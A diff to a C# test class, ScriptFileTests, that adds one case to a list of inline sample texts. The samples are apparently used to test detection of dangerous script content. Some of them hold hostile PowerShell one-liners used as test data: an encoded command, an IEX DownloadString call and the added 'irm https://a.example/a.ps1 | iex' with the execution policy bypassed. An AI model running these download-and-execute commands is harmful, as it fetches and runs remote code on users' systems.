@@ -70,6 +70,7 @@ public sealed class ScriptFileTests
     [InlineData("Please never run this:\npowershell -enc SQBFAFgA\nor open what mshta gives you.\n")]
     [InlineData("Usage\n=====\n\n.. code-block:: bat\n\n   @echo off\n   powershell -enc x\n")]
     [InlineData("\\begin{lstlisting}\nIEX (New-Object Net.WebClient).DownloadString('http://a.example/')\n\\end{lstlisting}\n")]
+    [InlineData("# Guide\n\n* First (see above)\n  ```sh\n  powershell -ExecutionPolicy ByPass -c \"irm https://a.example/a.ps1 | iex\"\n  ```\n")]
     [InlineData("map x =cmd | pipe\n")]
     [InlineData("/* A header. */\n#ifndef A_H\n#define A_H\nextern const char *const a;\nclass A {\n};\nclass B {\n};\n#endif\n")]
     [InlineData("// 'use strict'\nusing System;\nnamespace A;\nclass B {\n  void C() { var d = 1;\n  var e = 2; }\n};\n")]
